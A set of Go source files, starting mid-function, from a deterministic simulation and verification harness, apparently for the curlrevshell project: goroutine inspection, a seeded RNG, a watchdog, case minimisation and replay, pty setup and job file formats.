			g.BubbleID, _ = strconv.ParseInt(num, 10, 64)
		}
		g.Stack = blk
		out = append(out, g)
	}
	return out
}

// BubbleGoroutines returns the goroutines that belong to the caller's
// synctest bubble (goroutines of earlier bubbles that a violation left behind
// are not its business).
func BubbleGoroutines() []Goroutine {
	all := Goroutines()
	me := GoID()
	var mine int64
	for _, g := range all {
		if g.ID == me {
			mine = g.BubbleID
		}
	}
	var out []Goroutine
	for _, g := range all {
		if g.Bubble && g.BubbleID == mine && mine != 0 {
			out = append(out, g)
		}
	}
	return out
}

// CurrentBubble returns the id of the caller's synctest bubble (0 if none).
func CurrentBubble() int64 {
	me := GoID()
	for _, g := range Goroutines() {
		if g.ID == me {
			return g.BubbleID
		}
	}
	return 0
}

// WaitAllowMutex is a quiescence wait for the one situation synctest.Wait
// cannot handle: a goroutine of the bubble is known to wait for a sync.Mutex
// that another, durably blocked, goroutine holds (a mutex wait is not a
// durable block, so synctest.Wait would never return, and only the caller can
// release the holder).  It polls goroutine dumps in real time until every
// other goroutine of the caller's bubble is either durably blocked or waits
// in sync.Mutex.Lock / sync.RWMutex.(R)Lock, in two consecutive dumps with the
// same set of mutex waiters, and returns the number of mutex waiters.  With 0
// the bubble is quiescent in synctest's sense and synctest.Wait may be called.
// ok is false if that state was not reached within about ten seconds.
// activeUntagged: the state of a goroutine without a bubble tag that may be
// running or about to run.
func activeUntagged(state string) bool {
	for _, p := range []string{"running", "runnable", "preempted", "copystack", "GC assist", "GC sweep", "GC worker", "GC scavenge", "force gc", "waiting"} {
		if strings.HasPrefix(state, p) {
			return true
		}
	}
	return false
}

// WAMDebug, if set, receives the goroutine states of the deciding snapshot (tests only).
var WAMDebug func(string)

var lastStates, lastRaw, decidingRaw string

func WaitAllowMutex() (waiters int, ok bool) {
	me := GoID()
	var bubble int64
	for _, g := range Goroutines() {
		if g.ID == me {
			bubble = g.BubbleID
		}
	}
	if bubble == 0 {
		return 0, false
	}
	prev := ""
	for i := 0; i < 200000; i++ {
		quiet := true
		var ids []string
		lastStates = ""
		for _, g := range Goroutines() {
			if g.ID == me {
				continue
			}
			if !g.Bubble {
				// While a goroutine allocates with a garbage collection under
				// way (GC assist) the runtime takes it out of its bubble for a
				// moment, and its dump entry carries no bubble tag then.  So an
				// untagged goroutine that is not parked may be one of ours.
				if activeUntagged(g.State) {
					quiet = false
				}
				continue
			}
			if g.BubbleID != bubble {
				continue
			}
			if WAMDebug != nil {
				lastStates += strconv.FormatInt(g.ID, 10) + "[" + g.State + "] "
				decidingRaw = lastRaw
			}
			switch {
			case strings.Contains(g.State, "(durable)"):
			case strings.HasPrefix(g.State, "sync.Mutex.Lock"), strings.HasPrefix(g.State, "sync.RWMutex."):
				ids = append(ids, strconv.FormatInt(g.ID, 10))
			default:
				quiet = false
			}
		}
		if quiet {
			cur := "q:" + strings.Join(ids, ",")
			if cur == prev {
				if WAMDebug != nil {
					var sb strings.Builder
					for _, g := range Goroutines() {
						if g.Bubble && g.BubbleID == bubble {
							sb.WriteString(strconv.FormatInt(g.ID, 10) + "[" + g.State + "] ")
						}
					}
					WAMDebug(lastStates + " || RAW: " + decidingRaw + " || after: " + sb.String())
				}
				return len(ids), true
			}
			prev = cur
		} else {
			prev = ""
		}
		realNap(50 * 1000)
	}
	return 0, false
}
