// Package simkit holds what every simulation engine of the harness shares:
// the seeded choice source, the job/result/replay file formats, the
// minimiser, goroutine inspection and the watchdog.
package simkit

import (
	"math/rand/v2"
)

// RNG is the only source of choices in a simulated run.  It is a PCG
// generator seeded from (VERIF_SEED, stream...); nothing else in the harness
// draws randomness and logging never calls it.
type RNG struct {
	r     *rand.Rand
	Draws int64
}

// Mix derives a 64-bit value from a seed and a list of stream selectors
// (splitmix64 steps), so that sub-generators do not depend on call order.
func Mix(seed uint64, stream ...uint64) uint64 {
	x := seed
	for _, s := range append([]uint64{0x9e3779b97f4a7c15}, stream...) {
		x ^= s + 0x9e3779b97f4a7c15 + (x << 6) + (x >> 2)
		x += 0x9e3779b97f4a7c15
		z := x
		z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
		z = (z ^ (z >> 27)) * 0x94d049bb133111eb
		x = z ^ (z >> 31)
	}
	return x
}

// NewRNG returns the generator for (seed, stream...).
func NewRNG(seed uint64, stream ...uint64) *RNG {
	s := Mix(seed, stream...)
	return &RNG{r: rand.New(rand.NewPCG(s, Mix(s, 1)))}
}

// Intn returns a value in [0,n).  n <= 0 yields 0.
func (g *RNG) Intn(n int) int {
	g.Draws++
	if n <= 1 {
		return 0
	}
	return g.r.IntN(n)
}

// Range returns a value in [lo,hi].
func (g *RNG) Range(lo, hi int) int {
	if hi <= lo {
		return lo
	}
	return lo + g.Intn(hi-lo+1)
}

// Uint64 returns 64 random bits.
func (g *RNG) Uint64() uint64 { g.Draws++; return g.r.Uint64() }

// Chance is true with probability num/den.
func (g *RNG) Chance(num, den int) bool { return g.Intn(den) < num }

// Pick returns an index chosen with the given non-negative weights, or -1 if
// all are zero.
func (g *RNG) Pick(weights []int) int {
	total := 0
	for _, w := range weights {
		if w > 0 {
			total += w
		}
	}
	if total == 0 {
		return -1
	}
	x := g.Intn(total)
	for i, w := range weights {
		if w <= 0 {
			continue
		}
		if x < w {
			return i
		}
		x -= w
	}
	return -1
}

// Bytes returns n bytes drawn from alphabet (all 256 values if empty).
func (g *RNG) Bytes(n int, alphabet []byte) []byte {
	b := make([]byte, n)
	for i := range b {
		if len(alphabet) == 0 {
			b[i] = byte(g.Intn(256))
		} else {
			b[i] = alphabet[g.Intn(len(alphabet))]
		}
	}
	return b
}

// Shuffle permutes n items.
func (g *RNG) Shuffle(n int, swap func(i, j int)) {
	for i := n - 1; i > 0; i-- {
		j := g.Intn(i + 1)
		swap(i, j)
	}
}
