package simkit

import "syscall"

// realNap sleeps in real time (a bare system call: the fake clock of a
// synctest bubble does not see it).
func realNap(ns int64) {
	ts := syscall.Timespec{Sec: ns / 1e9, Nsec: ns % 1e9}
	_ = syscall.Nanosleep(&ts, nil)
}
