package simkit

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"sort"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// Case is an explicit, replayable case: an engine-specific configuration and
// the explicit list of actions and faults that were applied, in order.
type Case struct {
	Config  json.RawMessage   `json:"config"`
	Actions []json.RawMessage `json:"actions"`
}

// Found is a violation observed in one run.
type Found struct {
	Property  string `json:"property"`
	Invariant string `json:"invariant"`
	Signature string `json:"signature"` // stable identification of what fails (for known findings)
	Message   string `json:"message"`
}

// Outcome is what one simulated run produced.
type Outcome struct {
	Case        *Case
	Invalid     bool // replayed case not executable (an action was not enabled)
	Done        bool // enumeration exhausted: no case for this index
	Steps       int64
	SimNanos    int64
	Faults      map[string]int64
	Probes      map[string]int64
	Hash        uint64 // hash of the canonical case
	NonTrivial  bool
	States      []uint64
	Transitions []uint64
	Violations  []Found
	Trace       []string // canonical event log
	HarnessErr  string   // the harness, not the code, is in trouble
}

// Engine is one simulation engine (one layer of DESIGN.md).
type Engine interface {
	Name() string
	// Run executes one simulated run.  With c == nil the case is generated
	// from rng (index idx of this worker); otherwise c is replayed exactly.
	Run(t *testing.T, job *Job, rng *RNG, idx int64, c *Case) *Outcome
}

// Shrinker is implemented by engines that know transformations of a case
// which plain deletion of actions cannot reach (removing an attempt together
// with everything that refers to it and renumbering the rest, shortening
// payloads).  Each candidate is kept only if the same invariant still fails.
type Shrinker interface {
	Shrink(c *Case) []*Case
}

// Heartbeat is bumped by engines at every macro-step; the process-level
// watchdog (real time, outside any bubble) exits 2 when it stops moving.
var Heartbeat atomic.Int64

// WatchdogQuiet is how long the heartbeat may stand still before the engine's
// Stuck function (if any) is asked for a verdict; GiveUpAfter is when a worker
// that still makes no progress exits 2.
var (
	WatchdogQuiet = 60 * time.Second
	GiveUpAfter   = 90 * time.Second
)

// Stuck, if set, is called by the watchdog when the heartbeat has stood still:
// an engine whose code under test can deadlock returns the finding (with the
// case that was running and its trace) if the goroutine dump proves one; the
// worker then records it, writes the replay file and exits, because a
// deadlocked bubble can never be left.  A nil finding means "harness trouble".
var Stuck func(dump []Goroutine) (*Found, *Case, []string)

// Describe, if set, tells what the engine was doing (for harness-trouble
// reports; never part of a verdict).
var Describe func() string

func startWatchdog(j *Job, res *Result) {
	go func() {
		last := Heartbeat.Load()
		lastMove := time.Now()
		for {
			time.Sleep(500 * time.Millisecond)
			cur := Heartbeat.Load()
			if cur != last {
				last, lastMove = cur, time.Now()
				continue
			}
			if time.Since(lastMove) < WatchdogQuiet {
				continue
			}
			dump := Goroutines()
			if Stuck != nil {
				if f, c, tr := Stuck(dump); f != nil {
					fatal(j, res, f, c, tr)
				}
			}
			// not a proven deadlock: a loaded machine may just be slow; give up
			// (exit 2, never a verdict) only after a long time
			if time.Since(lastMove) < GiveUpAfter {
				time.Sleep(WatchdogQuiet)
				continue
			}
			var sb strings.Builder
			for _, g := range dump {
				sb.WriteString(g.Stack)
				sb.WriteString("\n\n")
			}
			res.Error = "watchdog: no progress for " + time.Since(lastMove).Round(time.Second).String() + "\n"
			if Describe != nil {
				res.Error += Describe() + "\n"
			}
			res.Error += sb.String()
			_ = SaveJSON(j.Out, res)
			fmt.Fprintln(os.Stderr, res.Error)
			os.Exit(2)
		}
	}()
}

// fatal records a violation that leaves the process unusable and exits.
func fatal(j *Job, res *Result, f *Found, c *Case, trace []string) {
	v := Violation{Property: f.Property, Invariant: f.Invariant, Signature: f.Signature, Message: f.Message, Seed: j.Seed, Run: res.Runs, Fatal: true}
	if j.Mode == "replay" {
		v.Replay = j.Replay
		res.Reproduced = true
	} else if c != nil {
		rp := Replay{Property: f.Property, Engine: res.Engine, Invariant: f.Invariant, Signature: f.Signature, Message: f.Message, Seed: j.Seed, Trace: clip(trace, 400)}
		rp.Case, _ = json.Marshal(c)
		_ = os.MkdirAll(j.ReplayDir, 0o755)
		path := filepath.Join(j.ReplayDir, fmt.Sprintf("%s-%s-%d-w%d-r%d.json", f.Property, sanitize(f.Invariant), j.Seed, j.Worker, res.Runs))
		if err := SaveJSON(path, &rp); err == nil {
			v.Replay = path
		}
	}
	if f.Property == j.Property || j.Mode == "replay" {
		res.Violations = append(res.Violations, v)
	} else {
		res.Other[f.Property+"/"+f.Invariant]++
	}
	res.Notes = append(res.Notes, clip(trace, 200)...)
	_ = SaveJSON(j.Out, res)
	os.Exit(0)
}

// WorkerMain is the body of every worker test binary.
func WorkerMain(t *testing.T, e Engine) {
	jp := os.Getenv("VERIF_JOB")
	if jp == "" {
		t.Skip("VERIF_JOB not set: worker binaries are run by /verif/bin/check")
	}
	var j Job
	if err := LoadJSON(jp, &j); err != nil {
		fmt.Fprintln(os.Stderr, "job:", err)
		os.Exit(2)
	}
	res := NewResult(&j)
	res.Engine = e.Name()
	start := time.Now()
	startWatchdog(&j, res)
	defer func() {
		res.WallMS = time.Since(start).Milliseconds()
		if err := SaveJSON(j.Out, res); err != nil {
			fmt.Fprintln(os.Stderr, "result:", err)
			os.Exit(2)
		}
	}()
	switch j.Mode {
	case "search":
		search(t, e, &j, res, start)
	case "replay":
		replay(t, e, &j, res)
	case "selftest":
		selftest(t, e, &j, res)
	default:
		res.Error = "unknown mode " + j.Mode
	}
}

func merge(dst map[string]int64, src map[string]int64) {
	for k, v := range src {
		dst[k] += v
	}
}

func search(t *testing.T, e Engine, j *Job, res *Result, start time.Time) {
	distinct, states, trans := Set64{}, Set64{}, Set64{}
	seenSig := map[string]bool{}
	deadline := start.Add(time.Duration(j.BudgetMS) * time.Millisecond)
	var crumb *os.File
	if j.Breadcrumb != "" {
		crumb, _ = os.OpenFile(j.Breadcrumb, os.O_CREATE|os.O_WRONLY, 0o644)
	}
	for idx := j.StartRun; ; idx++ {
		if crumb != nil {
			_, _ = crumb.WriteAt([]byte(fmt.Sprintf("%020d\n", idx)), 0)
		}
		if j.MaxRuns > 0 && idx >= j.MaxRuns {
			break
		}
		if j.BudgetMS > 0 && time.Now().After(deadline) {
			break
		}
		rng := NewRNG(j.Seed, uint64(j.Worker), uint64(idx))
		o := e.Run(t, j, rng, idx, nil)
		Heartbeat.Add(1)
		if o.Done {
			res.Exhaustive = true
			break
		}
		if o.HarnessErr != "" {
			res.Error = fmt.Sprintf("run %d (seed %d worker %d): %s", idx, j.Seed, j.Worker, o.HarnessErr)
			if o.Case != nil {
				b, _ := json.Marshal(o.Case)
				res.Notes = append(res.Notes, "case: "+string(b))
			}
			res.Notes = append(res.Notes, o.Trace...)
			return
		}
		res.Runs++
		res.Steps += o.Steps
		res.SimNanos += o.SimNanos
		merge(res.Faults, o.Faults)
		merge(res.Probes, o.Probes)
		if o.NonTrivial {
			distinct.Add(o.Hash)
		}
		for _, h := range o.States {
			states.Add(h)
		}
		for _, h := range o.Transitions {
			trans.Add(h)
		}
		if len(res.Samples) < 3 && o.Case != nil && (o.NonTrivial || idx > 20) {
			b, _ := json.Marshal(map[string]any{"run": idx, "case": o.Case, "trace": clip(o.Trace, 60)})
			res.Samples = append(res.Samples, b)
		}
		for _, f := range o.Violations {
			if f.Property != j.Property {
				res.Other[f.Property+"/"+f.Invariant]++
				// keep the first cases of a violation that belongs to another
				// property's check, for whoever looks into it
				if res.Other[f.Property+"/"+f.Invariant] <= 2 && o.Case != nil {
					rp := Replay{Property: f.Property, Engine: res.Engine, Invariant: f.Invariant, Signature: f.Signature, Message: f.Message, Seed: j.Seed, Trace: clip(o.Trace, 400)}
					rp.Case, _ = json.Marshal(o.Case)
					dir := filepath.Join(j.ReplayDir, "other")
					_ = os.MkdirAll(dir, 0o755)
					_ = SaveJSON(filepath.Join(dir, fmt.Sprintf("%s-%s-%d-w%d-r%d.json", f.Property, sanitize(f.Invariant), j.Seed, j.Worker, idx)), &rp)
				}
				continue
			}
			key := f.Invariant + "|" + f.Signature
			if seenSig[key] {
				continue
			}
			seenSig[key] = true
			v := Violation{Property: f.Property, Invariant: f.Invariant, Signature: f.Signature,
				Message: f.Message, Seed: j.Seed, Run: idx}
			if o.Case != nil {
				min, mf, trace := minimise(t, e, j, o.Case, f)
				rp := Replay{Property: f.Property, Engine: e.Name(), Invariant: mf.Invariant,
					Signature: mf.Signature, Message: mf.Message, Seed: j.Seed, Trace: clip(trace, 400)}
				rp.Case, _ = json.Marshal(min)
				_ = os.MkdirAll(j.ReplayDir, 0o755)
				name := fmt.Sprintf("%s-%s-%d-w%d-r%d.json", f.Property, sanitize(f.Invariant), j.Seed, j.Worker, idx)
				path := filepath.Join(j.ReplayDir, name)
				if err := SaveJSON(path, &rp); err == nil {
					v.Replay = path
				}
				v.Signature, v.Message = mf.Signature, mf.Message
			}
			res.Violations = append(res.Violations, v)
		}
		if len(res.Violations) >= 3 {
			break
		}
	}
	res.Distinct = distinct.Sorted()
	res.States = states.Sorted()
	res.Transitions = trans.Sorted()
}

func sanitize(s string) string {
	var sb strings.Builder
	for _, r := range s {
		if r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || r == '-' || r == '_' {
			sb.WriteRune(r)
		} else {
			sb.WriteByte('_')
		}
	}
	return sb.String()
}

func clip(s []string, n int) []string {
	if len(s) <= n {
		return s
	}
	out := append([]string(nil), s[:n/2]...)
	out = append(out, fmt.Sprintf("... (%d lines omitted) ...", len(s)-n))
	return append(out, s[len(s)-n/2:]...)
}

func match(o *Outcome, f Found) (Found, bool) {
	if o.Invalid || o.HarnessErr != "" {
		return Found{}, false
	}
	for _, g := range o.Violations {
		if g.Property == f.Property && g.Invariant == f.Invariant {
			return g, true
		}
	}
	return Found{}, false
}

// minimise shrinks c while the same invariant of the same property fails.
func minimise(t *testing.T, e Engine, j *Job, c *Case, f Found) (*Case, Found, []string) {
	best := f
	var bestTrace []string
	fails := func(acts []json.RawMessage) bool {
		cand := &Case{Config: c.Config, Actions: acts}
		o := e.Run(t, j, NewRNG(0), -1, cand)
		Heartbeat.Add(1)
		g, ok := match(o, f)
		if ok {
			best, bestTrace = g, o.Trace
		}
		return ok
	}
	// the explicit case must itself reproduce (it can fail to when the run
	// depended on a runtime select coin); otherwise keep it unshrunk
	if !fails(c.Actions) {
		return c, f, nil
	}
	acts := Minimise(c.Actions, fails, 600)
	cur := &Case{Config: c.Config, Actions: acts}
	if sh, ok := e.(Shrinker); ok {
		for round := 0; round < 40; round++ {
			improved := false
			for _, cand := range sh.Shrink(cur) {
				o := e.Run(t, j, NewRNG(0), -1, cand)
				Heartbeat.Add(1)
				if g, ok := match(o, f); ok {
					cur, best, bestTrace, improved = cand, g, o.Trace, true
					break
				}
			}
			if !improved {
				break
			}
			// deletion may have become possible again
			cfg := cur.Config
			fails2 := func(acts []json.RawMessage) bool {
				o := e.Run(t, j, NewRNG(0), -1, &Case{Config: cfg, Actions: acts})
				Heartbeat.Add(1)
				g, ok := match(o, f)
				if ok {
					best, bestTrace = g, o.Trace
				}
				return ok
			}
			cur = &Case{Config: cfg, Actions: Minimise(cur.Actions, fails2, 200)}
		}
	}
	// leave best/bestTrace describing the final candidate
	final := e.Run(t, j, NewRNG(0), -1, cur)
	if g, ok := match(final, f); ok {
		best, bestTrace = g, final.Trace
	}
	return cur, best, bestTrace
}

func replay(t *testing.T, e Engine, j *Job, res *Result) {
	var rp Replay
	if err := LoadJSON(j.Replay, &rp); err != nil {
		res.Error = err.Error()
		return
	}
	var c Case
	if err := json.Unmarshal(rp.Case, &c); err != nil {
		res.Error = err.Error()
		return
	}
	f := Found{Property: rp.Property, Invariant: rp.Invariant}
	var rg struct {
		Regenerate *Regenerate `json:"regenerate"`
	}
	if json.Unmarshal(rp.Case, &rg) == nil && rg.Regenerate != nil {
		// the case is "run number N of that seed": produce it again (a crash of
		// the code under test then kills this process, which is what the
		// orchestrator looks for)
		g := rg.Regenerate
		j2 := *j
		j2.Seed, j2.Worker, j2.Workers, j2.Tier, j2.Mode = g.Seed, g.Worker, g.Workers, g.Tier, "search"
		o := e.Run(t, &j2, NewRNG(g.Seed, uint64(g.Worker), uint64(g.Run)), g.Run, nil)
		res.Runs++
		if o.HarnessErr != "" {
			res.Error = o.HarnessErr
			return
		}
		if gf, ok := match(o, f); ok {
			res.Reproduced = true
			res.Violations = append(res.Violations, Violation{Property: gf.Property, Invariant: gf.Invariant, Signature: gf.Signature, Message: gf.Message, Seed: g.Seed, Replay: j.Replay})
		}
		res.Notes = append(res.Notes, "regenerated run finished without a crash; trace:")
		res.Notes = append(res.Notes, clip(o.Trace, 200)...)
		return
	}
	// a case that went through a runtime select coin may need retries
	for attempt := 0; attempt < 64; attempt++ {
		o := e.Run(t, j, NewRNG(0), -1, &c)
		Heartbeat.Add(1)
		res.Runs++
		if o.HarnessErr != "" {
			res.Error = o.HarnessErr
			return
		}
		if o.Invalid {
			res.Notes = append(res.Notes, "replayed case is not executable on this tree")
			return
		}
		if g, ok := match(o, f); ok {
			res.Reproduced = true
			res.Violations = append(res.Violations, Violation{Property: g.Property, Invariant: g.Invariant,
				Signature: g.Signature, Message: g.Message, Seed: rp.Seed, Replay: j.Replay})
			res.Notes = append(res.Notes, clip(o.Trace, 400)...)
			return
		}
		if len(o.Probes) == 0 || o.Probes["coin_steps"] == 0 {
			res.Notes = append(res.Notes, "not reproduced; trace of the replayed case:")
			res.Notes = append(res.Notes, clip(o.Trace, 400)...)
			break
		}
	}
}

// selftest runs MaxRuns seeds and writes one line per run (hash of the
// canonical trace) to LogPath, for diffing across processes and GOMAXPROCS.
func selftest(t *testing.T, e Engine, j *Job, res *Result) {
	var sb strings.Builder
	fmt.Fprintf(&sb, "# engine=%s property=%s seed=%d\n", e.Name(), j.Property, j.Seed)
	for idx := int64(0); idx < j.MaxRuns; idx++ {
		rng := NewRNG(j.Seed, uint64(j.Worker), uint64(idx))
		o := e.Run(t, j, rng, idx, nil)
		Heartbeat.Add(1)
		if o.Done {
			break
		}
		if o.HarnessErr != "" {
			res.Error = o.HarnessErr
			return
		}
		res.Runs++
		coin := int64(0)
		if o.Probes != nil {
			coin = o.Probes["coin_steps"]
		}
		var vs []string
		for _, v := range o.Violations {
			vs = append(vs, v.Property+"/"+v.Invariant)
		}
		sort.Strings(vs)
		fmt.Fprintf(&sb, "run=%d coin=%d steps=%d hash=%016x viol=%s\n", idx, coin, o.Steps,
			Hash64(o.Trace...), strings.Join(vs, ","))
		if j.Args["full"] == "1" {
			for _, l := range o.Trace {
				sb.WriteString("  " + l + "\n")
			}
		}
	}
	_ = runtime.GOMAXPROCS(0)
	if err := os.WriteFile(j.LogPath, []byte(sb.String()), 0o644); err != nil {
		res.Error = err.Error()
	}
}
