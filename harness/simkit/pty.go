package simkit

import (
	"fmt"
	"os"
	"os/exec"
	"syscall"

	"golang.org/x/sys/unix"
)

// EnsureTTY makes sure the worker process has a controlling terminal (the
// code under test opens /dev/tty, reads its size and puts it in raw mode).
// If there is none, the process re-executes itself with a fresh pty as its
// controlling terminal and exits with the child's status.  Only ioctls ever
// touch that pty; the terminal's byte streams go through the harness.
func EnsureTTY() {
	if f, err := os.Open("/dev/tty"); err == nil {
		f.Close()
		return
	}
	if os.Getenv("VERIF_TTY_CHILD") != "" {
		fmt.Fprintln(os.Stderr, "worker: no controlling terminal even after re-exec under a pty")
		os.Exit(2)
	}
	mfd, err := unix.Open("/dev/ptmx", unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
	if err != nil {
		fmt.Fprintln(os.Stderr, "worker: open /dev/ptmx:", err)
		os.Exit(2)
	}
	_ = unix.IoctlSetPointerInt(mfd, unix.TIOCSPTLCK, 0)
	n, err := unix.IoctlGetInt(mfd, unix.TIOCGPTN)
	if err != nil {
		fmt.Fprintln(os.Stderr, "worker: ptsname:", err)
		os.Exit(2)
	}
	slave, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		fmt.Fprintln(os.Stderr, "worker: open pty slave:", err)
		os.Exit(2)
	}
	_ = unix.IoctlSetWinsize(mfd, unix.TIOCSWINSZ, &unix.Winsize{Row: 50, Col: 200})
	cmd := exec.Command(os.Args[0], os.Args[1:]...)
	cmd.Env = append(os.Environ(), "VERIF_TTY_CHILD=1")
	cmd.Stdin = slave
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
	err = cmd.Run()
	code := 0
	if err != nil {
		code = 2
		if ee, ok := err.(*exec.ExitError); ok {
			code = ee.ExitCode()
		} else {
			fmt.Fprintln(os.Stderr, "worker: re-exec under pty:", err)
		}
	}
	os.Exit(code)
}
