package wamtest

import (
	"sync"
	"testing"
	"testing/synctest"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// TestWaitAllowMutex: a woken goroutine that does some work and then runs into
// a held mutex must always be seen as the one mutex waiter.
func TestWaitAllowMutex(t *testing.T) {
	early := 0
	last := ""
	simkit.WAMDebug = func(x string) { last = x }
	for i := 0; i < 3000; i++ {
		synctest.Test(t, func(t *testing.T) {
			var m sync.Mutex
			hold := make(chan struct{})
			wake := make(chan struct{})
			done := make(chan struct{})
			go func() { m.Lock(); <-hold; m.Unlock() }()
			go func() {
				<-wake
				x := 0
				for j := 0; j < 20000+i*10; j++ {
					x += j
				}
				_ = x
				buf := make([]byte, 65536)
				_ = string(buf)
				m.Lock()
				m.Unlock()
				close(done)
			}()
			synctest.Wait()
			close(wake)
			n, ok := simkit.WaitAllowMutex()
			if !ok {
				t.Fatal("no quiescence")
			}
			if n != 1 {
				early++
				t.Logf("n=%d: %s", n, last)
			}
			close(hold)
			<-done
		})
	}
	if early > 0 {
		t.Fatalf("WaitAllowMutex returned before the waiter had reached the mutex %d times", early)
	}
}
