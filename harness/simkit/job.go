package simkit

import (
	"encoding/json"
	"fmt"
	"hash/fnv"
	"os"
	"sort"
)

// Job is what the orchestrator hands one worker process (JSON file named by
// $VERIF_JOB).
type Job struct {
	Property  string            `json:"property"`
	Engine    string            `json:"engine"`
	Mode      string            `json:"mode"` // search | replay | selftest
	Tier      string            `json:"tier"` // quick | thorough
	Seed      uint64            `json:"seed"`
	Worker    int               `json:"worker"`
	Workers   int               `json:"workers"`
	BudgetMS  int64             `json:"budget_ms"`
	MaxRuns   int64             `json:"max_runs"`
	Replay    string            `json:"replay,omitempty"`
	Out       string            `json:"out"`
	ReplayDir string            `json:"replay_dir"`
	LogPath   string            `json:"log_path,omitempty"`
	Scratch   string            `json:"scratch,omitempty"`
	Args      map[string]string `json:"args,omitempty"`
	// Breadcrumb names a file into which the worker keeps writing the index of
	// the run it is executing, so that a crash of the code under test (a Go
	// panic kills the whole process) can be traced back to its run.
	Breadcrumb string `json:"breadcrumb,omitempty"`
	// StartRun makes a search start at that run index (crash triage).
	StartRun int64 `json:"start_run,omitempty"`
}

// Regenerate is the case of a replay file that names a generated run instead
// of listing its actions: the run is produced again from its seed.
type Regenerate struct {
	Seed    uint64 `json:"seed"`
	Worker  int    `json:"worker"`
	Workers int    `json:"workers"`
	Run     int64  `json:"run"`
	Tier    string `json:"tier"`
}

// Violation is one property violation found (and minimised) by a worker.
type Violation struct {
	Property  string `json:"property"`
	Invariant string `json:"invariant"`
	Signature string `json:"signature"`
	Message   string `json:"message"`
	Seed      uint64 `json:"seed"`
	Run       int64  `json:"run"`
	Replay    string `json:"replay,omitempty"`
	Fatal     bool   `json:"fatal,omitempty"` // the worker could not go on (deadlock): not minimised in-process
}

// Result is what a worker hands back (JSON file Job.Out).
type Result struct {
	Property    string            `json:"property"`
	Engine      string            `json:"engine"`
	Worker      int               `json:"worker"`
	Runs        int64             `json:"runs"`
	Steps       int64             `json:"steps"`
	SimNanos    int64             `json:"sim_nanos"`
	Faults      map[string]int64  `json:"faults"`
	Probes      map[string]int64  `json:"probes"`
	Distinct    []uint64          `json:"distinct"`    // hashes of distinct non-trivial cases
	States      []uint64          `json:"states"`      // hashes of abstract states reached
	Transitions []uint64          `json:"transitions"` // hashes of (state, action) pairs
	Samples     []json.RawMessage `json:"samples"`
	Violations  []Violation       `json:"violations"`
	Other       map[string]int64  `json:"other_property_violations,omitempty"`
	Exhaustive  bool              `json:"exhaustive"`
	Notes       []string          `json:"notes,omitempty"`
	WallMS      int64             `json:"wall_ms"`
	Error       string            `json:"error,omitempty"` // harness trouble, never a violation
	Reproduced  bool              `json:"reproduced,omitempty"`
	LogHash     string            `json:"log_hash,omitempty"`
}

// NewResult returns an empty result for j.
func NewResult(j *Job) *Result {
	return &Result{
		Property: j.Property, Engine: j.Engine, Worker: j.Worker,
		Faults: map[string]int64{}, Probes: map[string]int64{},
		Other: map[string]int64{},
	}
}

// Replay is a replay file: everything needed to re-run one minimised case.
type Replay struct {
	Property  string          `json:"property"`
	Engine    string          `json:"engine"`
	Invariant string          `json:"invariant"`
	Signature string          `json:"signature"`
	Message   string          `json:"message"`
	Seed      uint64          `json:"seed"`
	Note      string          `json:"note,omitempty"`
	Case      json.RawMessage `json:"case"` // engine-specific: configuration + explicit action/fault list
	Trace     []string        `json:"trace,omitempty"`
}

// LoadJSON reads path into v.
func LoadJSON(path string, v any) error {
	b, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	if err := json.Unmarshal(b, v); err != nil {
		return fmt.Errorf("%s: %w", path, err)
	}
	return nil
}

// SaveJSON writes v to path (indented).
func SaveJSON(path string, v any) error {
	b, err := json.MarshalIndent(v, "", " ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(b, '\n'), 0o644)
}

// Hash64 hashes strings (FNV-1a).
func Hash64(parts ...string) uint64 {
	h := fnv.New64a()
	for _, p := range parts {
		h.Write([]byte(p))
		h.Write([]byte{0})
	}
	return h.Sum64()
}

// Set64 is a set of hashes.
type Set64 map[uint64]struct{}

// Add adds h.
func (s Set64) Add(h uint64) { s[h] = struct{}{} }

// Sorted returns the members in order.
func (s Set64) Sorted() []uint64 {
	out := make([]uint64, 0, len(s))
	for h := range s {
		out = append(out, h)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// SortedKeys returns m's keys in order (the harness never ranges over a map
// where the order could matter).
func SortedKeys[V any](m map[string]V) []string {
	ks := make([]string, 0, len(m))
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}
