package main

// checkDef describes how one property is checked.
type checkDef struct {
	ID           string
	Engine       string // directory under harness/workers
	Level        string
	Workers      int
	GOMAXPROCS   int
	QuickMS      int64 // search budget per worker
	ThoroughMS   int64
	SelftestRuns int
	NoSelftest   string // reason, where a determinism self-test does not apply
	Exhaustible  bool   // the engine enumerates a finite space completely
	Args         map[string]string
	Rule         string
	StateMeasure string
	Assumptions  []string
	RealStub     map[string]string
	MustProbe    []string
}

var layerAReal = map[string]string{
	"real":   "internal/iobroker (New, Do, ConnectIn/Out/InOut, connect, proxyIn, proxyOut, events), log/slog JSON handler, context, sync",
	"stub":   "transport writers and readers, operator channels' other ends, callers, contexts' cancellation, order of the broker's lock sections (granted at the verif hook points), leak scan",
	"absent": "net/http, TLS, opshell (covered by the hsrv and opshell engines)",
}

var layerAAssume = []string{
	"The Go scheduler runs the real code between two quiescent points; the simulator decides order only at the hook points, the seams and the operator channels.",
	"Oracles classify operator notices structurally ([addr] prefix, colour, exported constants) and never by wording.",
	"Built with Go 1.26.8 (testing/synctest); the repository's own suite runs with the default toolchain.",
}

